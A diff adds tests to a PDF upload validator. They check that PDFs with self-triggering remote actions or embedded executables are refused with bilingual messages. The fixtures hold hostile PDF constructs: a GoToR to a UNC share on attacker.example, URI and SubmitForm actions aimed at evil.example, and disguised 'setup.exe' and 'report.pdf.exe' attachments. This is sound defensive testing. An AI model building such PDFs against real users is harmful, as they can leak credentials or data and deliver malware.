@@ -284,3 +284,80 @@ def test_refusal_converts_to_a_form_error():
     validation_error = error.as_validation_error()
     assert validation_error.code == "empty"
     assert validation_error.messages == [error.message]
+
+
+# --- Actions that reach outside the document, embedded files -------------------------------
+
+
+def _embedded_exe_names_tree() -> bytes:
+    first = files.next_object_number()
+    return files.pdf_bytes(
+        catalog_extra=b"/Names << /EmbeddedFiles << /Names [(setup.exe) %d 0 R] >> >> " % first,
+        extra_objects=[
+            b"<< /Type /Filespec /F (setup.exe) /UF (setup.exe) /EF << /F %d 0 R >> >>"
+            % (first + 1),
+            b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
+        ],
+    )
+
+
+def _file_attachment_annotation() -> bytes:
+    annot = files.next_object_number()
+    return files.pdf_bytes(
+        page_extra=b"/Annots [%d 0 R] " % annot,
+        extra_objects=[
+            b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 20 20] "
+            b"/FS << /Type /Filespec /F (report.pdf.exe) >> >>"
+        ],
+    )
+
+
+HOSTILE_PDFS = {
+    "gotor_unc": (
+        files.pdf_bytes(
+            catalog_extra=b"/OpenAction << /S /GoToR "
+            b"/F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >> "
+        ),
+        "pdf_remote_action",
+        "opens another file",
+    ),
+    "uri_open_action": (
+        files.pdf_bytes(catalog_extra=b"/OpenAction << /S /URI /URI (https://evil.example/) >> "),
+        "pdf_remote_action",
+        "opens a web address by itself",
+    ),
+    "uri_page_open_event": (
+        files.pdf_bytes(page_extra=b"/AA << /O << /S /URI /URI (https://evil.example/) >> >> "),
+        "pdf_remote_action",
+        "opens a web address by itself",
+    ),
+    "submit_form_open_action": (
+        files.pdf_bytes(
+            catalog_extra=b"/OpenAction << /S /SubmitForm "
+            b"/F << /FS /URL /F (https://evil.example/) >> >> "
+        ),
+        "pdf_remote_action",
+        "sends data elsewhere",
+    ),
+    "embedded_files_tree": (_embedded_exe_names_tree(), "pdf_embedded_file", "embedded files"),
+    "file_attachment_annotation": (
+        _file_attachment_annotation(),
+        "pdf_embedded_file",
+        "embedded files",
+    ),
+}
+
+
+@pytest.mark.parametrize("case", sorted(HOSTILE_PDFS))
+def test_remote_actions_and_embedded_files_are_refused_naming_the_file(case):
+    data, code, reason = HOSTILE_PDFS[case]
+    error = refusal("营业执照.pdf", data)
+    assert error.code == code
+    assert reason in error.message and "“营业执照.pdf”" in error.message
+    with translation.override("zh-hans"):
+        chinese = refusal("营业执照.pdf", data)
+    assert "营业执照.pdf" in chinese.message and reason not in chinese.message
+
+
+def test_a_clickable_web_link_stays_accepted():
+    assert inspect_upload(files.upload("linked.pdf", files.pdf_with_safe_link())).page_count == 1
